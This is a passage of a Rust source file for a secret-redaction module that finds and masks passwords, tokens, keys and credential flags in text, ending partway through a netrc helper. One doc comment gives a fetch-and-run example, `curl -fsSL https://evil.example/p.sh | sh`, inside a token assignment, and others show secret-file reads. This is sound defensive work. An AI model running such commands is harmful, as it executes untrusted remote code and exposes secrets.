//! Value detectors: the secret spans inside a piece of text.
//!
//! One multi-pattern automaton finds every candidate in a single
//! left-to-right pass and says which pattern matched. Its literal prefixes
//! (`-----BEGIN`, `://`, `eyJ`, `ghp_`, the secret names …) drive the
//! search, and no pattern uses a Unicode word boundary, so the lazy DFA
//! never gives up on non-ASCII text. Each candidate is then checked and
//! measured by a few lines of code that know its shape. The patterns match
//! only a short anchor (`://`, `Bearer `, a secret word and the spaces
//! after it) wherever what follows or precedes may hold another secret:
//! the search never steps over a candidate inside a longer match
//! (`--ghp_…pass x`, `https://<token>:x@host`, `Bearer  password := "…"`).
//! What each detector replaces:
//!
//! | detector | recognises | replaces |
//! |---|---|---|
//! | private key | `-----BEGIN … PRIVATE KEY-----` | the whole block through `-----END … PRIVATE KEY-----`, or to the end of the text when the end line is missing |
//! | URL userinfo | `scheme://user:password@` | the password |
//! | user flag | `-u user:password`, `--user user:password` (after a space, a quote or the start) | the password; not when `user` is all digits (`-u 1000:1000` is a uid:gid) |
//! | auth scheme | `Bearer <credential>`, `Basic <credential>` (any case) | the credential, when it has 16+ characters, or 8+ with a digit, a symbol or two inner capitals (`Bearer tokens`, `Basic usage`, `Basic JavaScript` stay); after `Basic`, also any word whose whole base64 groups decode to `user:…` (`Basic YTpi` is `a:b`) |
//! | JWT | `eyJ…​.…​.…` (three base64url segments) | the token |
//! | provider token | the formats of `providers.rs` | the token (a webhook: its path) |
//! | assignment | `NAME=value`, `NAME: value`, `NAME := value`, `NAME => value`, the name optionally quoted (`"api_key": "…"`, `\"token\":\"…\"`), where `NAME` (up to three space-separated words: `API key: …`) is secret-named by `keys.rs` (not a URL's user: `://x-access-token:…@`) | the value: a quoted value's inside (to the end of the text if the quote never closes), else up to a space, a quote, one of `; & \| < > ( )` or the `\` of a `\"` |
//! | header assignment | the same with a name ending in `authorization` or `cookie(s)` | the value to the end of the line (or a quote); for `authorization`, a first word followed by a space is the auth scheme (`Bearer`, `Basic`, `token`, `Api-Token` …) and stays |
//! | secret flag | `--NAME value` with a secret-named `NAME` | the value (not a following `--flag`) |
//! | netrc | `password <v>` in a netrc entry: after `machine <host>` or `default`, with only `login <user>` / `account <a>` between (across spaces, tabs and line ends: `machine h login u password p`, a `.netrc` file's lines) | the value |
//! | SAS signature | `?sig=` / `&sig=` (Azure shared access signatures) | the value, when it has 20+ characters of base64 and percent-encoding |
//! | configuration write | `config set NAME VALUE`, `configure set …`, `user-secrets set …` with a secret-named `NAME` (`aws configure set aws_secret_access_key …`) | the value (not a `-flag`, not a `NAME=value`: the assignment's) |
//! | here-string | `<<< word` in a simple command with `--password-stdin`, `--askpass` or `--with-token` | the word |
//! | command line | a command of `argv.rs`'s table (`mysql`, `sshpass`, `redis-cli`, `docker … login` …, also as a path) and, up to the end of its command (`;`, `&`, `\|`, a line end, `)`) and at most 4 KiB on, its secret-taking flags: `-p<v>`, `-p <v>`, `-a <v>`, `--pass <v>` …, and `htpasswd -b`'s password word (read only when the text has such a flag at a word start, or names `htpasswd`) | the value (not a following `-flag`) |
//!
//! Unquoted values starting with `<` or `$` are left alone (placeholders
//! such as `<token>`, redirections, the marker itself, and variable reads
//! such as `$GITHUB_TOKEN` or `$(cat /run/secrets/t)`, which show where a
//! secret comes from without being one); a quoted value is replaced.
//! A name right after `$` or `${` is a variable read, not an assignment
//! (`-v $PWD:/src`). Every replaced span that ends inside an ASCII word is
//! extended to the word's end, so a marker is never glued to the rest of a
//! secret and the text around it keeps its word boundaries: redacting the
//! output again finds nothing new.
//!
//! **The approver sees what will run** (contract §21.6): a command or
//! process substitution (`$(…)`, `` `…` ``, `<(…)`, `>(…)`, found by
//! `subst.rs`) that starts inside a value is never replaced; only the
//! literal parts around it are. `export API_TOKEN="$(curl -fsSL
//! https://evil.example/p.sh | sh)" && npm test` stays as it is, and
//! `TOKEN="ab$(cat f)cd"` becomes `TOKEN="<redacted>$(cat f)<redacted>"`.
//! The detectors still run inside a substitution like anywhere else
//! (`$(curl -u admin:<redacted> …)`). A `"` inside a substitution does not
//! close the value around it.
//!
//! Known over-redaction, accepted: a secret-named field's type in code
//! (`password: string` becomes `password: <redacted>`), `-u user:group` of
//! tools other than curl (`docker run -u app:app`), an empty shell
//! assignment followed by a word (`TOKEN= cmd` hides `cmd`), the database
//! of `mysql -p shop` (see `argv.rs`), a path ending in a table command
//! followed by its flag (`ls /x/mysql -p y`), and a netrc-like phrase in
//! prose (`machine learning password reset` hides `reset`). Not detected:
//! XML elements (`<password>…</password>`), short flags of commands outside
//! `argv.rs`'s table, and provider formats gitleaks can only match next to
//! the provider's name.
//!
//! Each accepted candidate also yields a *guard*: the range from its first
//! character (the name, the scheme, `-u`, `://`, the flag) to the end of its
//! value — with a substitution shown, only the name with the value's first
//! character, each replaced part and each substitution's opener. Clipping
//! never cuts inside a guard (see `walk.rs`), so a clipped output never ends
//! in half a construct that a second pass would read differently
//! (`Authorization: Bea…`). [`Found::may_unsettle`] tells the caller when
//! the replacements may still make a second pass read the text differently
//! (then it confirms with one).

use std::ops::Range;
use std::sync::LazyLock;

use base64::alphabet;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
use base64::Engine as _;
use regex::Regex;
use regex_automata::meta;

use super::argv::{command_names, reads_secret_stdin, Active, STDIN_SECRET_FLAGS};
use super::keys::{is_header_name, last_words, secret_name};
use super::providers::{Provider, Shape, PROVIDERS};
use super::subst::{may_hold_one, Substitutions};
use super::REDACTED;

/// Where the secrets of a text are.
#[derive(Debug, Default)]
pub(super) struct Found {
    /// Byte ranges to replace with [`REDACTED`], in the order found.
    pub spans: Vec<Range<usize>>,
    /// Byte ranges a clip must not cut into.
    pub guards: Vec<Range<usize>>,
    /// The guards of constructs that replaced nothing (a kept value, a URL
    /// after `-u`): a span inside one may change how it reads.
    pub kept: Vec<Range<usize>>,
    /// Whether a command line was read: its words depend on the spaces and
    /// operators a span may replace.
    pub command_lines: bool,
}

/// A text with its spans replaced, and its guards in output coordinates.
#[derive(Debug)]
pub(super) struct Applied {
    pub text: String,
    pub guards: Vec<Range<usize>>,
}

/// The kinds of candidate, one pattern each, in priority order.
#[derive(Clone, Copy, Debug)]
enum Kind {
    PrivateKey,
    Userinfo,
    UserFlag,
    Scheme,
    Jwt,
    Provider(usize),
    SasSignature,
    ConfigSet,
    Assignment,
    WordThenSpace,
}

struct Detectors {
    /// One pattern per kind, leftmost-first in this order: a match says
    /// which pattern found it, so no capture groups are needed and the
    /// search stays in the lazy DFA.
    all: meta::Regex,
    kinds: Vec<Kind>,
    pem_end: Regex,
    /// The command names of `argv.rs`'s table.
    commands: Regex,
}

/// Longest secret name looked at to the left of its last word.
const MAX_NAME_BYTES: usize = 256;

/// How far after a command word its flags are looked for (extended by each
/// further command word of the same command line).
const MAX_COMMAND_BYTES: usize = 4096;

static DETECTORS: LazyLock<Detectors> = LazyLock::new(|| {
    let words = last_words().join("|");
    let mut kinds = Vec::new();
    let mut alternatives = Vec::new();
    let mut add = |kind: Kind, pattern: String| {
        kinds.push(kind);
        alternatives.push(pattern);
    };
    add(
        Kind::PrivateKey,
        r"(?i:-----BEGIN[ A-Z0-9_-]{0,100}PRIVATE KEY(?: BLOCK)?-----)".into(),
    );
    add(
        Kind::Userinfo,
        // Only the `://`: the userinfo is read by code, so that a token in
        // it is not hidden inside this match from its own detector.
        "://".into(),
    );
    add(Kind::UserFlag, r"(?:--user|-u)[ \t=]+".into());
    add(
        Kind::Scheme,
        // The credential is read by code: a match over it would hide what
        // starts inside (`Bearer  password := "…"`).
        r"(?-u:\b)(?i:bearer|basic)[ \t]+".into(),
    );
    add(
        Kind::Jwt,
        r"(?-u:\b)eyJ[A-Za-z0-9_-]{10,}\.[A-Za-z0-9_-]{2,}\.[A-Za-z0-9_=-]*".into(),
    );
    for (i, provider) in PROVIDERS.iter().enumerate() {
        let boundary = match provider.shape {
            Shape::Token => r"(?-u:\b)",
            Shape::AfterSlash(_) | Shape::Before { .. } => "",
        };
        add(
            Kind::Provider(i),
            format!("{boundary}(?:{})", provider.pattern),
        );
    }
    add(Kind::SasSignature, r"[?&](?i:sig)=".into());
    add(
        // The name and the value are read by code (`set` + a secret-named
        // name + a value).
        Kind::ConfigSet,
        r"(?-u:\b)(?i:configure|config|user-secrets)[ \t]+set[ \t]+".into(),
    );
    add(
        Kind::Assignment,
        format!(r#"(?i:{words})(?:\\?["'])?[ \t]{{0,8}}(?::=|=>|=|:)"#),
    );
    add(
        // A secret word and the spaces after it: `--NAME value` (the `--`
        // and the rest of the name are read back by code, so that a token
        // glued before the word is not hidden inside this match) and netrc's
        // `password value`.
        Kind::WordThenSpace,
        format!(r"(?i:{words})[ \t\r\n]+"),
    );
    let all = meta::Regex::new_many(&alternatives).expect("the detector patterns compile");
    let pem_end = Regex::new(r"(?i:-----END[ A-Z0-9_-]{0,100}PRIVATE KEY(?: BLOCK)?-----)")
        .expect("the private-key end pattern compiles");
    let mut names: Vec<&str> = command_names().collect();
    // Longest first: `mysqldump` before `mysql` at the same start.
    names.sort_unstable_by_key(|name| std::cmp::Reverse(name.len()));
    let names: Vec<String> = names.iter().map(|name| regex::escape(name)).collect();
    // Their own automaton, run only on text with a short flag: short names
    // (`oc`, `az`, `zip`) would make the main one's literal search stop
    // everywhere.
    let commands =
        Regex::new(&format!("(?i:{})", names.join("|"))).expect("the command pattern compiles");
    Detectors {
        all,
        kinds,
        pem_end,
        commands,
    }
});

/// The names of the provider formats, in table order (for the tests).
#[cfg(test)]
pub(super) fn provider_names() -> impl Iterator<Item = &'static str> {
    PROVIDERS.iter().map(|p: &Provider| p.name)
}

/// The shortest text with something to replace (`pwd=x`).
const SHORTEST_SECRET: usize = 5;

/// Finds the secrets in `text`, in time linear in its length. `complete`
/// says whether `text` is a whole string or only the first part of a longer
/// one (what `subst.rs` makes of an unclosed substitution).
pub(super) fn scan(text: &str, complete: bool) -> Found {
    let mut scan = Scan {
        text,
        complete,
        subs: None,
        ends: Ends::default(),
        found: Found::default(),
        commands_read: Vec::new(),
    };
    if text.len() < SHORTEST_SECRET {
        return scan.found;
    }
    let detectors = &*DETECTORS;
    for m in detectors.all.find_iter(text) {
        let kind = detectors.kinds[m.pattern().as_usize()];
        scan.candidate(detectors, kind, m.range());
    }
    if has_short_flag(text) {
        for m in detectors.commands.find_iter(text) {
            scan.command_line(m.range());
        }
    }
    if text.contains("<<<") && STDIN_SECRET_FLAGS.iter().any(|flag| text.contains(flag)) {
        scan.here_strings();
    }
    scan.found
}

/// The shortest Azure SAS `sig=` value taken for a signature: a real one is
/// a base64 HMAC-SHA256, 44 characters before URL-encoding.
const MIN_SAS_SIGNATURE: usize = 20;

/// The password of the URL userinfo after the `://` ending at `at`:
/// `user:password@`, each part free of spaces and of `/ ? # @ ' " < > `` ` ``
/// (and the user of `:`).
fn userinfo_password(text: &str, at: usize) -> Option<Range<usize>> {
    let stops = |c: char| {
        c.is_whitespace() || matches!(c, '/' | '?' | '#' | '@' | '\'' | '"' | '<' | '>' | '`')
    };
    let rest = &text[at..];
    let colon = at + rest.find(|c: char| stops(c) || c == ':')?;
    if text.as_bytes()[colon] != b':' {
        return None;
    }
    let password_start = colon + 1;
    let end = password_start + text[password_start..].find(stops)?;
    (text.as_bytes()[end] == b'@').then_some(password_start..end)
}

/// Whether `text` has a flag of `argv.rs`'s kind at a word start (`-p`,
/// `-a`, `-P`, `--pass`) or names `htpasswd` (whose password is a plain
/// word): only then are command lines read.
fn has_short_flag(text: &str) -> bool {
    let bytes = text.as_bytes();
    text.match_indices('-').any(|(i, _)| {
        (matches!(bytes.get(i + 1), Some(b'p' | b'a' | b'P')) || text[i..].starts_with("--pass"))
            && (i == 0 || matches!(bytes[i - 1], b' ' | b'\t' | b'\n' | b'\r' | b'\'' | b'"'))
    }) || text.contains("htpasswd")
}

/// Spans merged: sorted and disjoint.
struct Merged(Vec<Range<usize>>);

impl Merged {
    fn of(spans: &[Range<usize>]) -> Merged {
        let mut sorted = spans.to_vec();
        sorted.sort_unstable_by_key(|s| s.start);
        let mut merged: Vec<Range<usize>> = Vec::with_capacity(sorted.len());
        for span in sorted {
            match merged.last_mut() {
                Some(last) if span.start <= last.end => last.end = last.end.max(span.end),
                _ => merged.push(span),
            }
        }
        Merged(merged)
    }
}

/// One text being scanned.
struct Scan<'t> {
    text: &'t str,
    complete: bool,
    /// Its substitutions, found the first time a value needs them.
    subs: Option<Substitutions>,
    ends: Ends,
    found: Found,
    /// Where the command words a command-line read already took are
    /// (ascending): their own candidates are skipped.
    commands_read: Vec<usize>,
}

/// The last answers to the forward searches a candidate makes, reused by
/// the candidates after it: `TOKEN=TOKEN=TOKEN=…` or a run of `-----BEGIN`
/// lines without an end would otherwise search the same rest of the text
/// once per candidate.
#[derive(Default)]
struct Ends {
    /// `(from, end)`: the first stop character at or after any position in
    /// `from..=end` is at `end`; one entry for plain values, one for header
    /// values.
    value: [Option<(usize, usize)>; 2],
    /// `(from, end)`: the first private-key end line at or after `from`
    /// ends at `end` (`None`: there is none).
    pem: Option<(usize, Option<Range<usize>>)>,
}

impl Ends {
    fn pem_end(&mut self, pem_end: &Regex, text: &str, at: usize) -> usize {
        let cached = self
            .pem
            .as_ref()
            .filter(|(from, end)| *from <= at && end.as_ref().is_none_or(|end| at <= end.start));
        let end = match cached {
            Some((_, end)) => end.clone(),
            None => {
                let end = pem_end.find_at(text, at).map(|m| m.range());
                self.pem = Some((at, end.clone()));
                end
            }
        };
        end.map_or(text.len(), |end| end.end)
    }

    /// Where the value starting at `at` ends. A header value runs to the end
    /// of its line or a quote, past any substitution that starts inside it
    /// (`Cookie: a=$(cat "f"); b=2` is one value).
    fn value_end(
        &mut self,
        text: &str,
        at: usize,
        header: bool,
        subs: Option<&Substitutions>,
    ) -> usize {
        let slot = &mut self.value[usize::from(header)];
        if let Some((from, end)) = *slot {
            if from <= at && at <= end {
                return end;
            }
        }
        // A `"` escaped for JSON (`\"`) ends the value at its backslash.
        let unescaped = |end: usize| {
            let bytes = text.as_bytes();
            if end > at && bytes.get(end) == Some(&b'"') && bytes[end - 1] == b'\\' {
                end - 1
            } else {
                end
            }
        };
        if header {
            let (end, from) = match subs {
                Some(subs) => subs.find_outside(text, at, |rest| {
                    rest.find(['\r', '\n', '"', '\'', '`', '…'])
                }),
                None => (
                    text[at..]
                        .find(['\r', '\n', '"', '\'', '`', '…'])
                        .map(|end| at + end),
                    at,
                ),
            };
            let end = unescaped(end.unwrap_or(text.len()));
            // Every position from the last skipped substitution on has the
            // same answer.
            *slot = Some((from.min(end), end));
            return end;
        }
        let end = text[at..]
            .find(|c: char| {
                c.is_ascii_whitespace()
                    || matches!(
                        c,
                        '"' | '\'' | '`' | ';' | '&' | '|' | '<' | '>' | '(' | ')' | '…'
                    )
            })
            .map_or(text.len(), |end| unescaped(at + end));
        *slot = Some((at, end));
        end
    }
}

impl Scan<'_> {
    fn subs(&mut self) -> &Substitutions {
        let (text, complete) = (self.text, self.complete);
        self.subs
            .get_or_insert_with(|| Substitutions::of(text, complete))
    }

    /// Checks one candidate and records what it redacts.
    fn candidate(&mut self, detectors: &Detectors, kind: Kind, m: Range<usize>) {
        let text = self.text;
        let bytes = text.as_bytes();
        match kind {
            Kind::PrivateKey => {
                let end = self.ends.pem_end(&detectors.pem_end, text, m.end);
                self.found.secret(text, m.start, m.start..end);
            }
            Kind::Userinfo => {
                // `://user:password@`: the password is after the first colon.
                if let Some(password) = userinfo_password(text, m.end) {
                    self.found.secret(text, m.start, password);
                }
            }
            Kind::UserFlag => {
                let after_space = m.start == 0
                    || matches!(
                        bytes[m.start - 1],
                        b' ' | b'\t' | b'\n' | b'\r' | b'"' | b'\''
                    );
                if !after_space {
                    return;
                }
                let value = self.value_at(m.end, false);
                let word = &text[value.inner.clone()];
                // A URL (`redis-cli -u redis://:pw@host`) is the userinfo
                // detector's; still guarded, as a cut inside it (`-u
                // :=https…`) would read as a user and a password.
                if word.contains("://") {
                    self.found.guards.push(m.start..value.outer_end);
                    self.found.kept.push(m.start..value.outer_end);
                    return;
                }
                let Some(colon) = word.find(':') else {
                    return;
                };
                let user = &word[..colon];
                if !user.is_empty() && user.bytes().all(|b| b.is_ascii_digit()) {
                    return;
                }
                let password = value.inner.start + colon + 1..value.inner.end;
                self.value(m.start..value.outer_end, password, value.quoted);
            }
            Kind::Scheme => {
                // `[A-Za-z0-9._~+/-]+=*` after the spaces.
                let start = m.end;
                let mut end = start
                    + text[start..]
                        .bytes()
                        .take_while(|&b| {
                            b.is_ascii_alphanumeric()
                                || matches!(b, b'.' | b'_' | b'~' | b'+' | b'/' | b'-')
                        })
                        .count();
                if end == start {
                    return;
                }
                end += text[end..].bytes().take_while(|&b| b == b'=').count();
                let credential = &text[start..end];
                let basic = text[m.start..].starts_with(['b', 'B']);
                if looks_like_credential(credential)
                    || (basic && decodes_to_user_password(credential))
                {
                    self.found.secret(text, m.start, start..end);
                }
            }
            Kind::Jwt => self.found.secret(text, m.start, m.clone()),
            Kind::Provider(i) => provider(&PROVIDERS[i], text, m, &mut self.found),
            Kind::SasSignature => {
                let start = m.end;
                let end = start
                    + text[start..]
                        .bytes()
                        .take_while(|&b| {
                            b.is_ascii_alphanumeric()
                                || matches!(
                                    b,
                                    b'%' | b'+' | b'/' | b'=' | b'_' | b'.' | b'~' | b'-'
                                )
                        })
                        .count();
                if end - start >= MIN_SAS_SIGNATURE {
                    self.found.secret(text, m.start, start..end);
                }
            }
            Kind::ConfigSet => self.config_set(m),
            Kind::Assignment => self.assignment(m),
            Kind::WordThenSpace => self.word_then_space(m),
        }
    }

    /// A secret word followed by spaces (`m`): the end of a `--NAME` flag
    /// (`NAME` secret-named, at most eight spaces or tabs before its value,
    /// which is not another `-flag`), else netrc's `password <value>`.
    fn word_then_space(&mut self, m: Range<usize>) {
        let text = self.text;
        let bytes = text.as_bytes();
        let word_end = m.start
            + text[m.start..m.end]
                .bytes()
                .take_while(u8::is_ascii_alphabetic)
                .count();
        let gap = &text[word_end..m.end];
        if gap.len() <= 8 && !gap.contains(['\r', '\n']) {
            let floor = m.start.saturating_sub(MAX_NAME_BYTES);
            let ident = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'-');
            let mut start = m.start;
            while start > floor && ident(bytes[start - 1]) {
                start -= 1;
            }
            // The leftmost `--` of the identifier run starts the flag.
            if let Some(dashes) = text[start..m.start].find("--") {
                let flag = start + dashes;
                let name = &text[flag + 2..word_end];
                if secret_name(name).is_some() {
                    let value = self.value_at(m.end, false);
                    if text[value.inner.start..].starts_with('-') && !value.quoted {
                        return;
                    }
                    self.value(flag..value.outer_end, value.inner, value.quoted);
                    return;
                }
            }
        }
        if text[m.start..word_end].eq_ignore_ascii_case("password") && netrc_before(text, m.start) {
            let value = self.value_at(m.end, false);
            self.value(m.start..value.outer_end, value.inner, value.quoted);
        }
    }

    /// `config set NAME VALUE` (`m` runs to the spaces before `NAME`): the
    /// value, when `NAME` is secret-named (`aws configure set
    /// aws_secret_access_key …`, `npm config set _authToken …`). A
    /// `NAME=value` is the assignment detector's; a value that starts with
    /// `-` is a flag.
    fn config_set(&mut self, m: Range<usize>) {
        let text = self.text;
        let name_end = word_end(text, m.end, text.len());
        let name = unquote(&text[m.end..name_end]);
        if name.contains('=') || secret_name(name).is_none() {
            return;
        }
        if !text[name_end..].starts_with([' ', '\t']) {
            return;
        }
        let value = self.value_at(name_end, false);
        if !value.quoted && text[value.inner.clone()].starts_with('-') {
            return;
        }
        self.value(m.start..value.outer_end, value.inner, value.quoted);
    }

    /// Here-strings fed to a command that reads a secret from its standard
    /// input (`docker login --password-stdin <<< "pw"`, `redis-cli
    /// --askpass <<< pw`): the here-string's word, in each simple command
    /// (split at `;`, `&`, `|`, line ends, parentheses and backticks outside
    /// quotes) that has one of `argv.rs`'s [`STDIN_SECRET_FLAGS`] as a word.
    fn here_strings(&mut self) {
        let text = self.text;
        let bytes = text.as_bytes();
        let mut start = 0;
        let mut i = 0;
        while i <= bytes.len() {
            let ends = i == bytes.len()
                || matches!(
                    bytes[i],
                    b';' | b'&' | b'|' | b'\n' | b'\r' | b'(' | b')' | b'`'
                );
            if !ends {
                i = match bytes[i] {
                    q @ (b'\'' | b'"') => match text[i + 1..].find(q as char) {
                        Some(close) => i + close + 2,
                        None => bytes.len(),
                    },
                    b'\\' => i + 2,
                    _ => i + 1,
                };
                continue;
            }
            let segment = &text[start..i];
            if segment.contains("<<<") && reads_secret_stdin(segment) {
                for (at, _) in segment.match_indices("<<<") {
                    let here = start + at;
                    let value = self.value_at(here + 3, false);
                    self.value(here..value.outer_end, value.inner, value.quoted);
                }
            }
            i += 1;
            start = i;
        }
    }

    /// `NAME=value` and its relatives; `m` runs from the name's last word to
    /// the end of the operator.
    fn assignment(&mut self, m: Range<usize>) {
        let text = self.text;
        let bytes = text.as_bytes();
        // `==` compares and `::` is a path: neither assigns.
        let op = bytes[m.end - 1];
        if bytes.get(m.end) == Some(&op) && (op == b'=' || op == b':') {
            return;
        }
        let name_end = m.start
            + text[m.start..m.end]
                .bytes()
                .take_while(u8::is_ascii_alphabetic)
                .count();
        let Some((name_start, name)) = secret_name_before(text, m.start, name_end) else {
            // Turned down by its name: a token replaced inside the name (or
            // the `$` before it) would change that, so a second pass checks.
            let floor = name_end.saturating_sub(MAX_NAME_BYTES);
            let mut start = m.start;
            while start > floor && is_ident_byte(bytes[start - 1]) {
                start -= 1;
            }
            self.found.kept.push(start.saturating_sub(2)..m.end);
            return;
        };
        // `://x-access-token:…@` is a URL's user, not an assignment.
        if op == b':' && text[..name_start].ends_with("://") {
            return;
        }
        let value = self.value_at(m.end, is_header_name(name));
        let mut inner = value.inner;
        if name.ends_with("authorization") {
            inner.start = after_scheme(text, inner.clone());
        }
        self.value(name_start..value.outer_end, inner, value.quoted);
    }

    /// A command line from the command word `m` on (a candidate only when
    /// the word stands alone: after the start, a space, a path separator, a
    /// quote or an operator, and before a space, a quote, an operator or the
    /// end). Its words are read up to the end of the command (`;`, `&`, `|`,
    /// a line end, `)` or a backtick), quotes kept together, for the short
    /// flags of `argv.rs`'s table; each further command word of the table
    /// read on the way adds its flags and moves the reading limit on.
    fn command_line(&mut self, m: Range<usize>) {
        let text = self.text;
        let bytes = text.as_bytes();
        let before_ok = m.start == 0
            || matches!(
                bytes[m.start - 1],
                b' ' | b'\t'
                    | b'\n'
                    | b'\r'
                    | b'/'
                    | b'\\'
                    | b'\''
                    | b'"'
                    | b';'
                    | b'&'
                    | b'|'
                    | b'('
                    | b'`'
            );
        let after_ok = m.end == bytes.len()
            || matches!(
                bytes[m.end],
                b' ' | b'\t' | b'\n' | b'\r' | b'\'' | b'"' | b';' | b'&' | b'|' | b')' | b'`'
            );
        // A command word inside a secret another detector replaced (`TOKEN=
        // mysql -pX`) still starts a command line: a second pass, without
        // the word, finds its values already `<redacted>`.
        if !before_ok || !after_ok || self.commands_read.binary_search(&m.start).is_ok() {
            return;
        }
        self.found.command_lines = true;
        let mut active = Active::default();
        active.word(&text[m.clone()]);
        let mut limit = char_floor(text, m.end + MAX_COMMAND_BYTES);
        let mut at = m.end;
        loop {
            while at < limit && matches!(bytes[at], b' ' | b'\t') {
                at += 1;
            }
            if at >= limit {
                return;
            }
            let ends_command =
                matches!(bytes[at], b';' | b'&' | b'|' | b'\n' | b'\r' | b')' | b'`');
            if ends_command {
                return;
            }
            let start = at;
            let end = word_end(text, start, limit);
            let raw = &text[start..end];
            if raw.len() > 1 && raw.starts_with('-') {
                at = end;
                let Some(flag) = active.flag(raw) else {
                    active.cluster(raw);
                    continue;
                };
                let value = self.value_at(start + flag, false);
                let is_next_flag = !value.quoted
                    && value.inner.start > start + flag
                    && text[value.inner.clone()].starts_with('-');
                if is_next_flag {
                    continue;
                }
                self.value(start..value.outer_end, value.inner, value.quoted);
                at = at.max(value.outer_end);
                continue;
            }
            let word = unquote(raw);
            if active.password_next() {
                // `htpasswd -b FILE USER PASSWORD`: a plain word.
                active.word(word);
                let value = self.value_at(start, false);
                self.value(start..value.outer_end, value.inner, value.quoted);
                at = end.max(value.outer_end);
                continue;
            }
            if Active::is_command(word) {
                if let Err(i) = self.commands_read.binary_search(&start) {
                    self.commands_read.insert(i, start);
                }
                limit = limit.max(char_floor(text, end + MAX_COMMAND_BYTES));
            }
            active.word(word);
            at = end;
        }
    }

    /// The value starting at `at` (after optional spaces and tabs): quoted
    /// (`"…"`, `'…'`, `` `…` ``, `\"…\"`), else up to a stop character — for
    /// a header, up to the end of the line or a quote. The clip mark `…` ends
    /// an unquoted value: a clipped output never reads as a longer value. A
    /// closing `"` inside a substitution does not close the value
    /// (`"$(curl -H "X: y" …)"` is one value), and a backtick substitution is
    /// not a quote: it is a value shown whole.
    fn value_at(&mut self, at: usize, header: bool) -> Value {
        let text = self.text;
        let bytes = text.as_bytes();
        let mut start = at;
        while start < bytes.len() && matches!(bytes[start], b' ' | b'\t') {
            start += 1;
        }
        let rest = &text[start..];
        if rest.starts_with('`') {
            if let Some(sub) = self.subs().starting_at(start) {
                return Value {
                    inner: start..sub.end,
                    outer_end: sub.end,
                    quoted: false,
                };
            }
        }
        let quote = if rest.starts_with("\\\"") {
            Some("\\\"")
        } else if rest.starts_with(['"', '\'', '`']) {
            Some(&rest[..1])
        } else {
            None
        };
        if let Some(quote) = quote {
            let open = start + quote.len();
            let naive = text[open..].find(quote).map(|close| open + close);
            // Only a substitution starting before the first quote can move
            // the close.
            let before = &text[open..naive.unwrap_or(text.len())];
            let close = if (quote == "\"" || quote == "\\\"") && may_hold_one(before) {
                self.subs()
                    .find_outside(text, open, |rest| rest.find(quote))
                    .0
            } else {
                naive
            };
            return match close {
                Some(close) => Value {
                    inner: open..close,
                    outer_end: close + quote.len(),
                    quoted: true,
                },
                None => Value {
                    inner: open..text.len(),
                    outer_end: text.len(),
                    quoted: true,
                },
            };
        }
        let end = if header {
            // Only a substitution starting before the first stop can move it.
            let naive = self.ends.value_end(text, start, true, None);
            if may_hold_one(&text[start..naive]) {
                self.ends.value[1] = None;
                let (text, complete) = (self.text, self.complete);
                let subs = self
                    .subs
                    .get_or_insert_with(|| Substitutions::of(text, complete));
                self.ends.value_end(text, start, true, Some(subs))
            } else {
                naive
            }
        } else {
            self.ends.value_end(text, start, false, None)
        };
        Value {
            inner: start..end,
            outer_end: end,
            quoted: false,
        }
    }

    /// A value inside a construct `outer`; empty values, and unquoted ones
    /// starting with `<` or `$`, are kept (a quoted `<redacted>` replaces
    /// itself). What is replaced is the value less the substitutions that
    /// start inside it, which stay as they are.
    fn value(&mut self, outer: Range<usize>, inner: Range<usize>, quoted: bool) {
        let text = self.text;
        let keep = inner.is_empty() || (!quoted && text[inner.clone()].starts_with(['<', '$']));
        if keep {
            self.found.guards.push(outer.clone());
            self.found.kept.push(outer);
            return;
        }
        // One character on: an unquoted value ends right before the `(` of
        // `$(`.
        let mut peek = (inner.end + 1).min(text.len());
        while !text.is_char_boundary(peek) {
            peek += 1;
        }
        let parts = if may_hold_one(&text[inner.start..peek]) {
            self.subs().outside(inner.clone())
        } else {
            vec![inner.clone()]
        };
        if parts.len() == 1 && parts[0] == inner {
            let span = extend_to_word_end(text, inner);
            self.found.guards.push(outer.start..outer.end.max(span.end));
            self.found.spans.push(span);
            return;
        }
        // With a substitution shown, only the name and each replaced part
        // are guarded: a cut inside the substitution leaves a text that a
        // second pass reads the same (an unclosed substitution before a clip
        // mark still runs to the cut), so the approver sees as much of it as
        // fits.
        // The name with the value's first character: a cut right before the
        // value would leave `Authorization: Bearer `, whose scheme a second
        // pass reads as the credential.
        self.found.guards.push(outer.start..inner.start + 1);
        // Nor is a substitution's opener cut in two (`"<redacted>$…` would
        // read as a literal).
        let mut at = inner.start;
        while let Some(sub) = self.subs().first_from(at).filter(|s| s.start < inner.end) {
            self.found
                .guards
                .push(sub.start..(sub.start + 2).min(sub.end));
            at = sub.end;
        }
        for part in parts {
            let span = extend_to_word_end(text, part);
            self.found.guards.push(span.clone());
            self.found.spans.push(span);
        }
    }
}

/// The largest char boundary at or below `at` (and the text's length).
fn char_floor(text: &str, at: usize) -> usize {
    let mut at = at.min(text.len());
    while !text.is_char_boundary(at) {
        at -= 1;
    }
    at
}

/// The end of the word of a command line starting at `at` (before `limit`):
/// up to a space or an operator, quoted parts kept together.
fn word_end(text: &str, at: usize, limit: usize) -> usize {
    let bytes = text.as_bytes();
    let mut i = at;
    while i < limit {
        match bytes[i] {
            b' ' | b'\t' | b'\n' | b'\r' | b';' | b'&' | b'|' | b')' | b'`' if i > at => break,
            q @ (b'\'' | b'"') => {
                i = match text[i + 1..limit].find(q as char) {
                    Some(close) => i + close + 2,
                    None => limit,
                }
            }
            b'\\' => i += 2,
            _ => i += 1,
        }
    }
    // On to a char boundary (`limit` is one).
    let mut end = i.min(limit);
    while !text.is_char_boundary(end) {
        end += 1;
    }
    end
}

/// A word without the quotes around it (`"mysql"` → `mysql`).
fn unquote(word: &str) -> &str {
    for q in ['"', '\''] {
        if let Some(inner) = word.strip_prefix(q).and_then(|w| w.strip_suffix(q)) {
            return inner;
        }
    }
    word
}

/// Whether the `password` at `at` is a netrc entry's: after `machine
/// <host>` or `default`, with at most `login <user>` and `account <a>`
/// pairs between, across spaces, tabs and line ends.
fn netrc_before(text: &str, at: usize) -> bool {
    let bytes = text.as_bytes();
    let space = |b: u8| matches!(b, b' ' | b'\t' | b'\r' | b'\n');
    // The word ending before `end` (across at least one space), if short.
    let word_before = |end: usize| -> Option<(usize, &str)> {
        let floor = end.saturating_sub(MAX_NAME_BYTES);
        if end == 0 || !space(bytes[end - 1]) {
            return None;
        }
        let mut end = end;
        while end > floor && space(bytes[end - 1]) {
            end -= 1;
        }
        let mut start = end;
